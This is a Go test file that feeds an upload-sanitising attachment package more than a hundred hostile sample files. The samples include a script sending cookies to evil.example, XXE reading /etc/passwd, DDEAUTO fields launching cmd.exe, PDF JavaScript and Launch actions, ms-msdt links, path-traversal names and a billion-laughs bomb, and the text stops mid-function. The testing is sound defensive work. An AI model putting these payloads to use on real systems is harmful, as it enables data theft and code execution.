package attachment_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"image"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"

	"zharia/portal/attachment"
	"zharia/portal/document"
)

// hostile is a file that somebody sends in order to harm, or by mistake: why it is
// refused or, with harmless, that others' copy of it has nothing of it.
type hostile struct {
	what, name string
	file       []byte
	why        attachment.Reason // "" for harmless
	without    string            // what the copy must not have
	called     string            // the name it gets; "" not asked
}

const html = `<html><script>fetch("https://evil.example/"+document.cookie)</script></html>`

// campaign is every hostile file that we could think of.
func campaign() []hostile {
	photo, shot, paper := jpegOf(picture(60, 40)), pngOf(picture(60, 40)), pdfOf(2)
	var colours bytes.Buffer
	if err := gif.Encode(&colours, picture(4, 4), nil); err != nil {
		panic(err)
	}
	cut := func(b []byte, n int) []byte { return b[:len(b)-n] }
	join := func(parts ...[]byte) []byte { return bytes.Join(parts, nil) }
	flip := func(b []byte, at int) []byte { b = bytes.Clone(b); b[at] ^= 0xff; return b }
	many := func(n int) []part {
		out := make([]part, n)
		for i := range out {
			out[i] = part{fmt.Sprintf("word/media/%d.xml", i), "<a/>"}
		}
		return out
	}
	heavy := func(mb int) part { return part{"word/media/image1.bmp", strings.Repeat("\x00", mb<<20)} }
	js := "<</S/JavaScript/JS(app.alert(1))>>"
	var deep strings.Builder
	deep.WriteString(strings.Repeat("<a>", 5000) + strings.Repeat("</a>", 5000))
	flate := func(s string) string {
		var b bytes.Buffer
		z := zlib.NewWriter(&b)
		z.Write([]byte(s))
		z.Close()
		return b.String()
	}
	streamed := func(dict, body string) string {
		return fmt.Sprintf("<<%s/Length %d>>stream\n%s\nendstream", dict, len(body), body)
	}
	locked := zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, word(""))
	locked = bytes.ReplaceAll(locked, []byte("PK\x01\x02\x14\x00\x14\x00\x08\x00"), []byte("PK\x01\x02\x14\x00\x14\x00\x09\x00"))
	lying := bytes.Clone(docx())
	binary.LittleEndian.PutUint16(lying[len(lying)-12:], 60000)
	const (
		macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
		kind  = attachment.WrongKind
	)
	xxe := part{"word/document.xml", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w"><w:p>&x;</w:p></w:document>`}
	laughs := part{"word/document.xml", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>`}
	return []hostile{
		// Names.
		{what: "a program", name: "virus.exe", file: []byte("MZ" + html), why: kind},
		{what: "a program under two ends", name: "photo.jpg.exe", file: photo, why: kind},
		{what: "a script", name: "act.js", file: []byte(html), why: kind},
		{what: "a page", name: "act.html", file: []byte(html), why: kind},
		{what: "a drawing with a script", name: "logo.svg", file: []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), why: kind},
		{what: "an archive", name: "all.zip", file: zipOf(part{"a.txt", "a"}), why: kind},
		{what: "a document with macros", name: "act.docm", file: docx(), why: kind},
		{what: "an old document", name: "act.doc", file: []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), why: kind},
		{what: "no end", name: "photo", file: photo, why: kind},
		{what: "a name of nothing", name: "", file: photo, why: kind},
		{what: "only an end", name: ".jpg", file: photo, why: kind},
		{what: "an end that looks like ours", name: "photo.jрg", file: photo, why: kind}, // a Cyrillic р
		{what: "an end turned round", name: "photo\u202egpj.exe", file: photo, why: kind},
		{what: "an end behind a NUL", name: "photo.exe\x00.jpg", file: photo, called: "photo.exe.jpg"},
		{what: "a turned name", name: "\u202ephoto\u2066.jpg", file: photo, called: "photo.jpg"},
		{what: "a way up", name: "../../../etc/cron.d/photo.jpg", file: photo, called: "photo.jpg"},
		{what: "a way of Windows", name: `C:\Windows\System32\..\photo.jpg`, file: photo, called: "photo.jpg"},
		{what: "a name with line ends", name: "photo\r\nX-Evil: 1.jpg", file: photo, called: "photoX-Evil 1.jpg"},
		{what: "a name with marks", name: `ph"o<t>o|?*.jpg`, file: photo, called: "photo.jpg"},
		{what: "three hundred characters", name: strings.Repeat("ү", 300) + ".jpg", file: photo, called: strings.Repeat("ү", 116) + ".jpg"},
		{what: "broken letters", name: "ph\xff\xfeoto.jpg", file: photo, called: "photo.jpg"},
		{what: "a stream of Windows", name: "photo.jpg::$DATA", file: photo, why: kind},
		// Nothing, too much, cut.
		{what: "no byte", name: "a.pdf", why: attachment.Empty},
		{what: "one byte", name: "a.pdf", file: []byte{0}, why: attachment.Mismatch},
		{what: "zeros", name: "a.jpg", file: make([]byte, 5000), why: attachment.Mismatch},
		{what: "a paper of 21 MB", name: "a.pdf", file: make([]byte, 21<<20), why: attachment.TooLarge},
		{what: "a cut PDF", name: "a.pdf", file: paper[:len(paper)/3], why: attachment.Damaged},
		{what: "a cut JPEG", name: "a.jpg", file: cut(photo, 500), why: attachment.Damaged},
		{what: "a cut PNG", name: "a.png", file: cut(shot, 500), why: attachment.Damaged},
		{what: "a cut DOCX", name: "a.docx", file: cut(docx(), 40), why: attachment.Damaged},
		{what: "a cut ODT", name: "a.odt", file: cut(odt(""), 40), why: attachment.Damaged},
		{what: "a cut OGG", name: "a.ogg", file: cut(ogg("OpusHead"), 100), why: attachment.Damaged},
		{what: "a cut MP4", name: "a.mp4", file: cut(mp4("mp42", "vide"), 100), why: attachment.Damaged},
		{what: "a cut WAV", name: "a.wav", file: cut(wav(), 100), why: attachment.Damaged},
		{what: "a cut WebM", name: "a.webm", file: cut(webm("webm"), 100), why: attachment.Damaged},
		{what: "a PNG with a wrong sum", name: "a.png", file: flip(shot, 60), why: attachment.Damaged},
		// Not what the name says.
		{what: "a page as JPEG", name: "a.jpg", file: []byte(html), why: attachment.Mismatch},
		{what: "a page as PDF", name: "a.pdf", file: []byte(html), why: attachment.Mismatch},
		{what: "a drawing as PNG", name: "a.png", file: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), why: attachment.Mismatch},
		{what: "a program as PDF", name: "a.pdf", file: append([]byte("MZ"), make([]byte, 500)...), why: attachment.Mismatch},
		{what: "a program of Linux as MP3", name: "a.mp3", file: append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 500)...), why: attachment.Mismatch},
		{what: "a PNG as JPEG", name: "a.jpg", file: shot, why: attachment.Mismatch},
		{what: "a JPEG as PDF", name: "a.pdf", file: photo, why: attachment.Mismatch},
		{what: "a GIF as PNG", name: "a.png", file: colours.Bytes(), why: attachment.Mismatch},
		{what: "an archive as DOCX", name: "a.docx", file: zipOf(part{"a.txt", "a"}), why: attachment.Mismatch},
		{what: "a sheet as DOCX", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, part{"xl/workbook.xml", "<a/>"}), why: attachment.Mismatch},
		{what: "an archive as ODT", name: "a.odt", file: zipOf(part{"a.txt", "a"}), why: attachment.Mismatch},
		{what: "a book as ODT", name: "a.odt", file: zipOf(part{"mimetype", "application/epub+zip"}, part{"content.xml", "<a/>"}), why: attachment.Mismatch},
		{what: "a film as sound", name: "a.m4a", file: mp4("M4A ", "soun", "vide"), why: attachment.Mismatch},
		{what: "a film of Ogg as sound", name: "a.ogg", file: ogg("\x80theora"), why: attachment.Mismatch},
		{what: "a Matroska as WebM", name: "a.webm", file: webm("matroska"), why: attachment.Mismatch},
		{what: "text as MP3", name: "a.mp3", file: []byte(strings.Repeat("Some text. ", 500)), why: attachment.Mismatch},
		{what: "a locked document of Office", name: "a.docx", file: append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 2000)...), why: attachment.Mismatch},
		// Two things at once.
		{what: "GIF and script", name: "a.jpg", file: []byte("GIF89a/*" + html + "*/=1;"), why: attachment.Mismatch},
		{what: "PDF behind a page", name: "a.pdf", file: join([]byte(html), paper), why: attachment.Mismatch},
		{what: "PDF behind a JPEG", name: "a.pdf", file: join(photo, paper), why: attachment.Mismatch},
		{what: "JPEG before an archive", name: "a.jpg", file: join(photo, zipOf(part{"evil.js", html})), without: "evil.js"},
		{what: "JPEG before a page", name: "a.jpg", file: join(photo, []byte(html)), without: "evil.example"},
		{what: "JPEG before a PDF", name: "a.jpg", file: join(photo, paper), without: "%PDF"},
		{what: "PNG before an archive", name: "a.png", file: join(shot, zipOf(part{"evil.js", html})), without: "evil.js"},
		{what: "PNG before a page", name: "a.png", file: join(shot, []byte(html)), without: "evil.example"},
		{what: "JPEG with a page in a remark", name: "a.jpg", file: join(photo[:2], []byte{0xff, 0xfe, 0, byte(len(html) + 2)}, []byte(html), photo[2:]), without: "evil.example"},
		{what: "JPEG with PHP in its EXIF", name: "a.jpg", file: exif(photo, 1), without: "GPS"},
		{what: "DOCX before a page", name: "a.docx", file: join(docx(), []byte(html)), why: attachment.Damaged},
		{what: "DOCX behind a page", name: "a.docx", file: join([]byte(html), docx()), why: attachment.Mismatch},
		{what: "DOCX behind another archive", name: "a.docx", file: join(zipOf(part{"evil.js", html}), docx()), why: attachment.Bomb},
		{what: "MP4 before a page", name: "a.mp4", file: join(mp4("mp42", "vide"), []byte(html)), why: attachment.Damaged},
		{what: "WAV before a page", name: "a.wav", file: join(wav(), []byte(html)), why: attachment.Damaged},
		{what: "OGG before a page", name: "a.ogg", file: join(ogg("OpusHead"), []byte(html)), why: attachment.Damaged},
		{what: "WebM before a page", name: "a.webm", file: join(webm("webm"), []byte(html)), why: attachment.Damaged},
		{what: "three frames of MP3 and a page", name: "a.mp3", file: join(mp3()[:417*3], []byte(strings.Repeat(html, 100))), why: attachment.Damaged},
		{what: "WebM with files in it", name: "a.webm", file: webm("webm", element([]byte{0x19, 0x41, 0xa4, 0x69}, []byte(html))), why: attachment.Active},
		{what: "MP4 without a film", name: "a.mp4", file: join(box("ftyp", []byte("mp42\x00\x00\x00\x00mp42")), box("mdat", []byte(html))), why: attachment.Damaged},
		{what: "an Ogg page with a wrong sum", name: "a.ogg", file: flip(ogg("OpusHead"), 40), why: attachment.Damaged},
		{what: "MP4 with a box in a box that is longer", name: "a.mp4", file: join(box("ftyp", []byte("mp42\x00\x00\x00\x00mp42")), box("moov", []byte("\x00\xff\xff\xfftrak"))), why: attachment.Damaged},
		{what: "MP4 of a box of 2^63 bytes", name: "a.mp4", file: join(box("ftyp", []byte("mp42\x00\x00\x00\x00mp42")), []byte("\x00\x00\x00\x01moov\x7f\xff\xff\xff\xff\xff\xff\xff")), why: attachment.Damaged},
		// Bombs of pixels and pages.
		{what: "a PNG of 50,000 by 50,000", name: "a.png", file: pngClaiming(50_000, 50_000), why: attachment.TooDetail},
		{what: "a PNG of 2^31 by 1", name: "a.png", file: pngClaiming(1<<31-1, 1), why: attachment.TooDetail},
		{what: "a PNG of nothing", name: "a.png", file: pngClaiming(0, 10), why: attachment.Damaged},
		{what: "a PNG that claims 7,000 by 7,000", name: "a.png", file: pngClaiming(7_000, 7_000), why: attachment.Damaged},
		{what: "a JPEG of 65,535 by 65,535", name: "a.jpg", file: jpegClaiming(65_535, 65_535), why: attachment.TooDetail},
		{what: "a JPEG of nothing", name: "a.jpg", file: jpegClaiming(0, 10), why: attachment.Damaged},
		{what: "a JPEG that claims 7,000 by 7,000", name: "a.jpg", file: jpegClaiming(7_000, 7_000), why: attachment.Damaged},
		{what: "a PDF of 2,001 pages", name: "a.pdf", file: pdfOf(2001), why: attachment.TooLong},
		{what: "a PDF of a million pages by its word", name: "a.pdf", file: pdfRaw("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1000000>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"), why: attachment.Damaged},
		{what: "a PDF whose pages are their own parents", name: "a.pdf", file: pdfRaw("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"), why: attachment.Damaged},
		{what: "a PDF of arrays 20,000 deep", name: "a.pdf", file: pdfWith("/X "+strings.Repeat("[", 20_000)+strings.Repeat("]", 20_000), ""), why: attachment.Damaged},
		{what: "a PDF of no page", name: "a.pdf", file: pdfRaw("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"), why: attachment.Damaged},
		{what: "a PDF whose table unpacks to 300 MB", name: "a.pdf", file: pdfTabled(flate(strings.Repeat("\x00", 300<<20))), why: attachment.Damaged},
		{what: "a locked PDF", name: "a.pdf", file: bytes.Replace(paper, []byte("trailer\n<<"), []byte("trailer\n<</Encrypt<</Filter/Standard/V 1/R 2/O(a)/U(b)/P -1>>"), 1), why: attachment.Locked},
		// What acts in a PDF.
		{what: "a script at opening", name: "a.pdf", file: pdfWith("/OpenAction"+js, ""), without: "app.alert"},
		{what: "an address at opening", name: "a.pdf", file: pdfWith("/OpenAction<</S/URI/URI(https://evil.example/seen)>>", ""), without: "evil.example"},
		{what: "an address at opening, by reference", name: "a.pdf", file: pdfWith("/OpenAction 4 0 R", "", "<</S/URI/URI(https://evil.example/seen)>>"), without: "evil.example"},
		{what: "an address after a place at opening", name: "a.pdf", file: pdfWith("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>", "", "<</S/URI/URI(https://evil.example/seen)>>"), without: "evil.example"},
		{what: "a script by reference", name: "a.pdf", file: pdfWith("/OpenAction 4 0 R", "", js), without: "app.alert"},
		{what: "scripts by name", name: "a.pdf", file: pdfWith("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "", js), without: "app.alert"},
		{what: "a script of a page", name: "a.pdf", file: pdfWith("", "/AA<</O"+js+">>"), without: "app.alert"},
		{what: "a script of a button", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A"+js+">>"), without: "app.alert"},
		{what: "a script after a deed", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://zan.kz)/Next"+js+">>>>"), without: "app.alert"},
		{what: "a name with hex", name: "a.pdf", file: pdfWith("/OpenAction<</S/Java#53cript/JS(app.alert(1))>>", ""), without: "app.alert"},
		{what: "the start of a program", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>"), without: "cmd.exe"},
		{what: "a form that sends itself", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>>>"), without: "evil.example"},
		{what: "another file by address", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/D[0/Fit]/F(\\\\evil.example\\share)>>>>`), without: "evil.example"},
		{what: "a file within", name: "a.pdf", file: pdfWith("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "", "<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 5 0 R>>>>", streamed("/Type/EmbeddedFile", "MZ-evil")), without: "MZ-evil"},
		{what: "a file on a page", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 5 0 R>>>>>>", streamed("/Type/EmbeddedFile", "MZ-evil")), without: "MZ-evil"},
		{what: "EICAR within", name: "a.pdf", file: pdfWith("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "", "<</Type/Filespec/F(e.com)/UF(e.com)/EF<</F 5 0 R>>>>", streamed("/Type/EmbeddedFile", eicar())), without: "EICAR"},
		{what: "a torn PDF of which no whole copy can be made", name: "a.pdf", file: bytes.Replace(pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A"+js+">>"), []byte("]>>\nendobj\n4 0 obj\n<</Type/Annot/S"), []byte("]>"), 1), why: attachment.Damaged},
		{what: "a script in a packed object", name: "a.pdf", file: pdfPacked("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", js), without: "app.alert"},
		{what: "the start of a program in a packed object", name: "a.pdf", file: pdfPacked("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", "<</S/Launch/F(cmd.exe)>>"), without: "cmd.exe"},
		{what: "another file by address in a packed object", name: "a.pdf", file: pdfPacked("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", `<</S/GoToR/D[0/Fit]/F(\\\\evil.example\\share)>>`), without: "evil.example"},
		{what: "a packed object whose deed is a packed name", name: "a.pdf", file: pdfPacked("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", "<</S 6 0 R/F(cmd.exe)>>", "/Launch"), without: "cmd.exe"},
		{what: "a deed that is a name by reference", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A 5 0 R>>", "<</S 6 0 R/F(cmd.exe)>>", "/Launch"), without: "cmd.exe"},
		{what: "a file on a page, by reference", name: "a.pdf", file: pdfWith("", "/Annots[4 0 R]", "<</Type/Annot/Subtype 5 0 R/Rect[0 0 9 9]/FS<</Type/Filespec/F(evil.exe)/UF(evil.exe)>>>>", "/FileAttachment"), why: attachment.Damaged},
		// Documents.
		{what: "10,000 entries", name: "a.docx", file: docx(many(10_000)...), why: attachment.Bomb},
		{what: "10,000 entries of ODT", name: "a.odt", file: odt("", many(10_000)...), why: attachment.Bomb},
		{what: "an entry of 90 MB in 90 KB", name: "a.docx", file: docx(heavy(90)), why: attachment.Bomb},
		{what: "the same in ODT", name: "a.odt", file: odt("", part{"Pictures/1.bmp", strings.Repeat("\x00", 90<<20)}), why: attachment.Bomb},
		{what: "a list that lies", name: "a.docx", file: lying, why: attachment.Bomb},
		{what: "a way up within", name: "a.docx", file: docx(part{"../../evil.xml", "<a/>"}), why: attachment.Bomb},
		{what: "a way from the root", name: "a.docx", file: docx(part{"/etc/passwd.xml", "<a/>"}), why: attachment.Bomb},
		{what: "a way of Windows within", name: "a.docx", file: docx(part{`word\..\..\evil.xml`, "<a/>"}), why: attachment.Bomb},
		{what: "an entry twice", name: "a.docx", file: docx(part{"WORD/document.xml", "<a/>"}), why: attachment.Bomb},
		{what: "locked entries", name: "a.docx", file: locked, why: attachment.Locked},
		{what: "a DOCM that is called DOCX", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, wordType, macro, 1)}, part{"_rels/.rels", rels}, word("")), why: attachment.Active},
		{what: "a program of Word", name: "a.docx", file: docx(part{"word/vbaProject.bin", "\xd0\xcf\x11\xe0"}), why: attachment.Active},
		{what: "a DOCM within", name: "a.docx", file: docx(part{"word/embeddings/inner.docm", string(docx())}), why: attachment.Active},
		{what: "ActiveX", name: "a.docx", file: docx(part{"word/activeX/activeX1.xml", "<a/>"}), why: attachment.Active},
		{what: "an object of OLE", name: "a.docx", file: docx(part{"word/embeddings/oleObject1.bin", "MZ"}), why: attachment.Active},
		{what: "a page within", name: "a.docx", file: docx(part{"word/afchunk.htm", html}), why: attachment.Active},
		{what: "a drawing within", name: "a.docx", file: docx(part{"word/media/image1.svg", `<svg onload="alert(1)"/>`}), why: attachment.Active},
		{what: "EICAR within DOCX", name: "a.docx", file: docx(part{"word/media/eicar.com", eicar()}), why: attachment.Active},
		{what: "a template from outside", name: "a.docx", file: docx(relation("attachedTemplate", "https://evil.example/t.dotm", "External")), why: attachment.Active},
		{what: "a picture from outside", name: "a.docx", file: docx(relation("image", `\\evil.example\share\a.png`, "External")), why: attachment.Active},
		{what: "a link that is a script", name: "a.docx", file: docx(relation("hyperlink", "javascript:alert(1)", "External")), why: attachment.Active},
		{what: "DDE", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, word(`<w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>`)), why: attachment.Active},
		{what: "a field that fetches", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, word(`<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/a.png "/>`)), why: attachment.Active},
		{what: "DDE in two pieces", name: "a.docx", file: docxOf(begun + instructions(" DD", `EAUTO c:\\windows\\system32\\cmd.exe "/k calc"`) + ended), why: attachment.Active},
		{what: "DDE around a remark", name: "a.docx", file: docxOf(begun + instructions(` DD<!-- -->EAUTO c:\\x`)), why: attachment.Active},
		{what: "DDE around a foreign element", name: "a.docx", file: docxOf(begun + instructions(` DD<x:y/>EAUTO c:\\x`)), why: attachment.Active},
		{what: "DDE around what was struck out", name: "a.docx", file: docxOf(begun + instructions(" DD") + `<w:del><w:r><w:delInstrText>zz</w:delInstrText></w:r></w:del>` + instructions("EAUTO x") + ended), why: attachment.Active},
		{what: "DDE around what Word passes over", name: "a.docx", file: docxOf(begun + instructions(" DD") + "<x:y>" + instructions("zz") + "</x:y>" + instructions("EAUTO x") + ended), why: attachment.Active},
		{what: "DDE around what Word passes over by its prefix", name: "a.docx", file: docxOf(begun + instructions(" DD") + `<w:y xmlns:w="x">` + instructions("zz") + "</w:y>" + instructions("EAUTO x") + ended), why: attachment.Active},
		{what: "DDE around a text", name: "a.docx", file: docxOf(begun + instructions(" DD") + "<w:r><w:t>zz</w:t></w:r>" + instructions("EAUTO x") + ended), why: attachment.Active},
		{what: "DDE after a piece of no field", name: "a.docx", file: docxOf(instructions("PAGE") + instructions("DDEAUTO x")), why: attachment.Active},
		{what: "DDE after the end of an instruction", name: "a.docx", file: docxOf(begun + instructions("PAGE") + `<w:r><w:fldChar w:fldCharType="separate"/></w:r>` + instructions("DDEAUTO x")), why: attachment.Active},
		{what: "DDE that never ends", name: "a.docx", file: docxOf(begun + instructions("DDEAUTO x")), why: attachment.Active},
		{what: "DDE in quotes", name: "a.docx", file: docxOf(instructions(` &quot;DDEAUTO&quot; c:\\x`)), why: attachment.Active},
		{what: "DDE that was struck out", name: "a.docx", file: docxOf(`<w:del><w:r><w:delInstrText>DDE c:\\x</w:delInstrText></w:r></w:del>`), why: attachment.Active},
		{what: "DDE behind a field of the same paragraph", name: "a.docx", file: docxOf(begun + instructions("PAGE") + ended + begun + instructions("DDE", "AUTO x") + ended), why: attachment.Active},
		{what: "DDE after the result of another field", name: "a.docx", file: docxOf(begun + instructions(" IF 1 = 1 ") + begun + instructions(" DDEAUTO x") + ended + ended), why: attachment.Active},
		{what: "a field whose name another makes", name: "a.docx", file: docxOf(begun + begun + instructions(" QUOTE 68 68 69 ") + ended + instructions(` c:\\x`) + ended), why: attachment.Active},
		{what: "a field that asks a database", name: "a.docx", file: docxOf(instructions(` DATABASE \d "\\evil.example\a.mdb"`)), why: attachment.Active},
		{what: "DDE behind an attribute of the same name", name: "a.docx", file: docxOf(`<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO c:\\x"/>`), why: attachment.Active},
		{what: "a template behind an attribute of the same name", name: "a.docx", file: docx(part{"word/_rels/settings.xml.rels", `<Relationships><Relationship x:Type="a/hyperlink" Type="a/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`}), why: attachment.Active},
		{what: "a template behind a mode of the same name", name: "a.docx", file: docx(part{"word/_rels/settings.xml.rels", `<Relationships><Relationship Type="a/attachedTemplate" Target="https://evil.example/t.dotm" x:TargetMode="Internal" TargetMode="External"/></Relationships>`}), why: attachment.Active},
		{what: "another document than the one that is looked at", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "/word/document.xml", "/word/main.dat", 1)},
			part{"_rels/.rels", strings.Replace(rels, "word/document.xml", "word/main.dat", 1)}, part{"word/main.dat", word(instructions("DDEAUTO x")).text}, word("")), why: attachment.Bomb},
		{what: "another document, by the relation alone", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", strings.Replace(rels, "word/document.xml", "word/main.dat", 1)},
			part{"word/main.dat", word(instructions("DDEAUTO x")).text}, word("")), why: attachment.Bomb},
		{what: "a heading under another end", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "<Override", `<Override PartName="/word/header.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/><Override`, 1)},
			part{"_rels/.rels", rels}, word(""), part{"word/header.dat", word(instructions("DDEAUTO x")).text}), why: attachment.Bomb},
		{what: "an end that is XML by its word", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "<Override", `<Default Extension="dat" ContentType="application/xml"/><Override`, 1)},
			part{"_rels/.rels", rels}, word("")), why: attachment.Bomb},
		{what: "an object of OLE under another end", name: "a.docx", file: docx(relation("oleObject", "media/image1.dat", "Internal"), part{"word/media/image1.dat", "MZ"}), why: attachment.Active},
		{what: "a page of mail within", name: "a.docx", file: docx(relation("aFChunk", "media/a.dat", "Internal"), part{"word/media/a.dat", html}), why: attachment.Active},
		{what: "a package under another end", name: "a.docx", file: docx(relation("package", "media/a.dat", "Internal"), part{"word/media/a.dat", "PK"}), why: attachment.Active},
		{what: "buttons of a program", name: "a.docx", file: docx(part{"customUI/customUI14.xml", "<customUI/>"}), why: attachment.Active},
		{what: "a link that starts a program of Windows", name: "a.docx", file: docx(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")), why: attachment.Active},
		{what: "a link that starts a command of LibreOffice", name: "a.docx", file: docx(relation("hyperlink", "vnd.libreoffice.command:x", "External")), why: attachment.Active},
		{what: "an entity of a file", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, xxe), why: attachment.Bomb},
		{what: "a billion laughs", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, laughs), why: attachment.Bomb},
		{what: "elements 5,000 deep", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, part{"word/document.xml", deep.String()}), why: attachment.Bomb},
		{what: "broken XML", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, part{"word/document.xml", "<w:document><a>"}), why: attachment.Damaged},
		{what: "a Basic program in ODT", name: "a.odt", file: odt("", part{"Basic/Standard/Module1.xml", "<a/>"}), why: attachment.Active},
		{what: "a Python program in ODT", name: "a.odt", file: odt("", part{"Scripts/python/evil.py", "import os"}), why: attachment.Active},
		{what: "an event in ODT", name: "a.odt", file: odt(`<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>`), why: attachment.Active},
		{what: "a picture from outside in ODT", name: "a.odt", file: odt(`<draw:image xlink:href="https://evil.example/a.png"/>`), why: attachment.Active},
		{what: "a picture from outside behind an attribute of the same name", name: "a.odt", file: odt(`<draw:image x:href="Pictures/1.png" xlink:href="https://evil.example/a.png"/>`), why: attachment.Active},
		{what: "a part from a store of documents", name: "a.odt", file: odt(`<text:section-source xlink:href="vnd.sun.star.webdav://evil.example/a.odt"/>`), why: attachment.Active},
		{what: "a link that starts a program in ODT", name: "a.odt", file: odt(`<text:a xlink:href="vnd.sun.star.script:x.y?language=Basic&amp;location=application"/>`), why: attachment.Active},
		{what: "a link that starts a macro in ODT", name: "a.odt", file: odt(`<text:a x:href="" xlink:href="macro:///Standard.Module1.Main"/>`), why: attachment.Active},
		{what: "an object in ODT", name: "a.odt", file: odt(`<draw:object xlink:href="./Object 1"/>`), why: attachment.Active},
		{what: "an entity in ODT", name: "a.odt", file: odt("", part{"styles.xml", `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>`}), why: attachment.Bomb},
		{what: "a locked ODT", name: "a.odt", file: zipOf(part{"mimetype", odtType}, part{"META-INF/manifest.xml", `<manifest><encryption-data/></manifest>`}, part{"content.xml", "<a/>"}), why: attachment.Locked},
		// EICAR as it is.
		{what: "EICAR", name: "eicar.com", file: []byte(eicar()), why: kind},
		{what: "EICAR as PDF", name: "eicar.pdf", file: []byte(eicar()), why: attachment.Mismatch},
		{what: "EICAR behind a JPEG", name: "eicar.jpg", file: join(photo, []byte(eicar())), without: "EICAR"},
	}
}

func TestEveryHostileFileIsRefusedInPlainWordsOrMadeHarmless(t *testing.T) {
	all := campaign()
	if len(all) < 100 {
		t.Fatalf("only %d files", len(all))
	}
	var mu sync.Mutex
	refused, disarmed := map[string]int{}, 0
	t.Run("each", func(t *testing.T) {
		for _, h := range all {
			t.Run(h.what, func(t *testing.T) {
				t.Parallel()
				message, called, kind, copied, _, err := attachment.Look(t.Context(), h.name, h.file)
				if err != nil {
					t.Fatal(err)
				}
				mu.Lock()
				defer mu.Unlock()
				want := ""
				if h.why != "" {
					want = "attachments.refused." + string(h.why)
				}
				if message != want {
					t.Fatalf("it is answered with %q, not %q", message, want)
				}
				if message != "" {
					refused[message]++
					return
				}
				disarmed++
				h.harmless(t, called, kind, copied)
			})
		}
	})
	t.Logf("%d files: %d made harmless, refused %v", len(all), disarmed, refused)
}

// harmless holds what others would open to: a whole file of its kind, without what
// was put into it.
func (h hostile) harmless(t *testing.T, called string, kind attachment.Kind, copied []byte) {
	t.Helper()
	if h.called != "" && called != h.called {
		t.Errorf("it is called %q, not %q", called, h.called)
	}
